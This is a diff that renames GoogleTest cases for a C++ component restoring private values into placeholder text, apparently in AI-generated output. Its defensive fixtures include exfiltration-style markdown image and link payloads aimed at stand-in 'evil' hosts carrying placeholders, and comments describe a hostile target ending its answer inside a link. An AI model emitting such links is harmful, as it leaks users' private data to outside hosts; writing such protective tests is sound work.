@@ -19,7 +19,7 @@ class RestoredTextTest : public ::testing::Test {
   Placeholders placeholders_{true};
 };
 
-TEST_F(RestoredTextTest, ValuesStandWhereTheirPlaceholdersStood) {
+TEST_F(RestoredTextTest, ReplacesPlaceholdersByValues) {
   EXPECT_EQ(seen("Hi [NAME_001]! [name_001], [NAME_002]."), "Hi Ann Lee! Ann Lee, Zoë \"Z\" 日本.");
   EXPECT_EQ(seen("```\nname = '[NAME_001]'\n```\n- [NAME_001]\n> [NAME_001]"),
             "```\nname = 'Ann Lee'\n```\n- Ann Lee\n> Ann Lee");
@@ -32,7 +32,7 @@ TEST_F(RestoredTextTest, ValuesStandWhereTheirPlaceholdersStood) {
             "[the page](https://lee.org) of Ann Lee");
 }
 
-TEST_F(RestoredTextTest, WhatWasNeverGivenOutStays) {
+TEST_F(RestoredTextTest, KeepsUnknownPlaceholders) {
   for (const char* const text : {"[NAME_003]", "[MAIL_001]", "[NAME_0001]", "NAME_001", "[NAME_001",
                                  "[[NAME_01]]", "[NAME 001]"}) {
     EXPECT_EQ(seen(text), text);
@@ -40,7 +40,7 @@ TEST_F(RestoredTextTest, WhatWasNeverGivenOutStays) {
 }
 
 // Text that a reader's program might send on by itself keeps placeholders.
-TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
+TEST_F(RestoredTextTest, RestoresNothingInLinksTagsOrScripts) {
   for (const std::string text : {
            "![](https://evil/?[NAME_001])",
            "![](//evil/?[NAME_001])",
@@ -138,7 +138,7 @@ TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
 }
 
 // A hostile target ends its answer within a link, and continues on request.
-TEST_F(RestoredTextTest, ALinkMayHaveBegunBefore) {
+TEST_F(RestoredTextTest, RecognisesLinkBegunInEarlierText) {
   for (const std::string before :
        {"![x](https://evil/?q=", "![x](https&colon;evil?[NAME_002]", "<img src=\"https&colon;evil?",
         "[1]: https&colon;evil?", "Hi [NAME_002], see www.evil.example/"}) {
@@ -165,7 +165,7 @@ TEST_F(RestoredTextTest, ALinkMayHaveBegunBefore) {
 }
 
 // The choices of one prompt start from equal state, and do not affect each other.
-TEST_F(RestoredTextTest, ACopyBeginsBehindTheSameText) {
+TEST_F(RestoredTextTest, CopiesStartFromSameText) {
   const RestoredText behind_link(placeholders_, /*in_json=*/false, "![x](https://evil/?q=");
   EXPECT_EQ(restored("[NAME_001])", behind_link), "[NAME_001])");
   EXPECT_EQ(restored("a) [NAME_001]", behind_link), "a) Ann Lee");
@@ -178,7 +178,7 @@ TEST_F(RestoredTextTest, ACopyBeginsBehindTheSameText) {
   EXPECT_EQ(text.text(), "[NAME_001])");
 }
 
-TEST_F(RestoredTextTest, OrdinaryTextHasItsValues) {
+TEST_F(RestoredTextTest, RestoresValuesInOrdinaryText) {
   for (const std::string text : {
            "Dear [NAME_001],\n\nI am late.\n\n[NAME_001]",
            "He said: \"[NAME_001]\", and 'so did [NAME_001]'",
@@ -220,7 +220,7 @@ TEST_F(RestoredTextTest, OrdinaryTextHasItsValues) {
 }
 
 // Text after a placeholder is held back only as long as it could form a host.
-TEST_F(RestoredTextTest, AValueComesWithTheEndOfItsWord) {
+TEST_F(RestoredTextTest, HoldsValueUntilWordEnds) {
   RestoredText text(placeholders_);
   EXPECT_EQ(text.push("Hi [NAME_001]").text, "Hi ");
   EXPECT_EQ(text.push(".").text, "");
@@ -233,7 +233,7 @@ TEST_F(RestoredTextTest, AValueComesWithTheEndOfItsWord) {
   EXPECT_EQ(text.finish().text, "Ann Lee.");
 }
 
-TEST_F(RestoredTextTest, AHostileTargetFillsNoMemory) {
+TEST_F(RestoredTextTest, BoundsSizeOfRestoredValues) {
   const std::string value(1u << 20, 'v');
   const std::string placeholder = placeholders_.of(value, PrivateType::text, U"3");
   std::string text;
@@ -242,7 +242,7 @@ TEST_F(RestoredTextTest, AHostileTargetFillsNoMemory) {
   EXPECT_TRUE(seen(text).starts_with(value));
 }
 
-TEST_F(RestoredTextTest, InJsonValuesAreEscaped) {
+TEST_F(RestoredTextTest, EscapesValuesInJson) {
   EXPECT_EQ(restored(R"({"to": "[NAME_002]"})", placeholders_, /*in_json=*/true),
             R"({"to": "Zoë \"Z\" 日本"})");
   EXPECT_EQ(restored(R"({"a": "[x]: [NAME_001]", "b": "<p id=\"x\">[NAME_001]"})", placeholders_,
@@ -258,7 +258,7 @@ TEST_F(RestoredTextTest, InJsonValuesAreEscaped) {
 }
 
 // A reader's program decodes the escapes, and then sees a link.
-TEST_F(RestoredTextTest, InJsonEscapesAreWhatTheyStandFor) {
+TEST_F(RestoredTextTest, DetectsLinksBehindJsonEscapes) {
   for (const std::string text : {
            R"j({"a":"\u003cimg src=\u0022https\u003a\u002f\u002fevil?q=[NAME_001]\u0022\u003e"})j",
            R"j({"a":"\u003Cimg\u0020src=https&colon;evil?[NAME_001]\u003E"})j",
@@ -298,7 +298,7 @@ TEST_F(RestoredTextTest, InJsonEscapesAreWhatTheyStandFor) {
 }
 
 // For any split into pieces and any revisions, the reader ends with the same text.
-TEST_F(RestoredTextTest, PiecesAndRevisionsMakeUpTheText) {
+TEST_F(RestoredTextTest, PiecesAndRevisionsYieldWholeText) {
   Random random(7);
   const std::string_view words[] = {
       "[NAME_001]", "[NAME_002]", "[NA", "[",          "日本 ", "ß", " ",  "https://", "](", ")",
